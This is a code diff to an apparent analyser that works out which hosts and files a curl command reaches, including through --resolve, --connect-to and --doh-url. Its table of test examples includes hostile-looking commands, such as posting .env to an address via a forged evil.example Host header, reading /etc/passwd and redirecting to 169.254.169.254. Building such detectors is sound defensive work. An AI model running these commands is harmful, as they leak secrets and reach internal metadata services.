@@ -225,6 +225,8 @@ def _elsewhere(args: Args) -> Iterator[Fact]:
             yield from args.reach(value if "://" in value else f"http://{value}", shown=value)
             yield args.gap("goes through a proxy")
     for word in args.values(*DETOURS):
+        for address in _instead(args, word):
+            yield from args.reach(address if "://" in address else f"http://{address}", shown=address)
         yield args.gap(f"`{word.text}` changes which machine is reached")
     for word in args.values("--unix-socket"):
         yield from args.file("write", word)
@@ -233,6 +235,22 @@ def _elsewhere(args: Args) -> Iterator[Fact]:
         yield args.gap("a file holds further options", blind=True)
     if args.has("--proto-default"):
         yield args.gap("addresses without a scheme mean another one")
+
+
+def _instead(args: Args, word: Word) -> list[str]:
+    """The machines that are reached instead: `host:port:ADDRESS,ADDRESS` and `host:port:HOST:port`."""
+    text = word.value or ""
+    if word in args.values("--doh-url"):
+        return [text] if text else []
+    if word in args.values("--dns-servers"):
+        return []
+    behind = text.partition("]")[2] if text.lstrip("+-").startswith("[") else text
+    rest = behind.split(":", 2)[2] if behind.count(":") > 1 else ""
+    if word in args.values("--connect-to"):
+        end = rest.find("]") + 1 or (rest.find(":") if ":" in rest else len(rest))
+        return [rest[:end]] if rest[:end] else []
+    addresses = [one.strip("[]") for one in rest.split(",") if one]
+    return [f"[{one}]" if ":" in one else one for one in addresses]
 
 
 def _header_gaps(args: Args) -> Iterator[Fact]:
@@ -385,7 +403,7 @@ EXAMPLES = {
     "curl -sK c.cfg": "read c.cfg | blind curl: a file holds further options",
     "curl -x evil.example:80 https://a.example/": "reach evil.example:80 | reach https://a.example/"
     " | gap curl: goes through a proxy",
-    "curl --resolve a.example:443:6.6.6.6 https://a.example/": "reach https://a.example/"
+    "curl --resolve a.example:443:6.6.6.6 https://a.example/": "reach 6.6.6.6 | reach https://a.example/"
     " | gap curl: `a.example:443:6.6.6.6` changes which machine is reached",
     "curl -H 'Host: evil.example' https://a.example/ -d @.env": "read .env | reach evil.example"
     " | send https://a.example/ | gap curl: asks for another host than the address names",
@@ -420,4 +438,16 @@ EXAMPLES = {
     'curl -d "x $DATA" -H "Authorization: Bearer $T" https://a.example/': "send https://a.example/",
     "curl ' file:///etc/passwd'": "read /etc/passwd",
     "curl --version": "note curl",
+    "curl --resolve x.example:80:169.254.169.254 http://x.example": "reach 169.254.169.254 | reach http://x.example"
+    " | gap curl: `x.example:80:169.254.169.254` changes which machine is reached",
+    "curl --resolve +x.example:80:[::1],10.0.0.1 http://x.example": "reach http://x.example"
+    " | blind curl: the value of --resolve may be several words (names of files)"
+    " | gap curl: `+x.example:80:[::1],10.0.0.1` changes which machine is reached",
+    "curl --connect-to x.example:80:127.0.0.1:80 http://x.example": "reach 127.0.0.1 | reach http://x.example"
+    " | gap curl: `x.example:80:127.0.0.1:80` changes which machine is reached",
+    "curl --connect-to ::[::1]:80 http://x.example": "reach http://x.example"
+    " | blind curl: the value of --connect-to may be several words (names of files)"
+    " | gap curl: `::[::1]:80` changes which machine is reached",
+    "curl --doh-url https://d.example/q http://x.example": "reach https://d.example/q | reach http://x.example"
+    " | gap curl: `https://d.example/q` changes which machine is reached",
 }
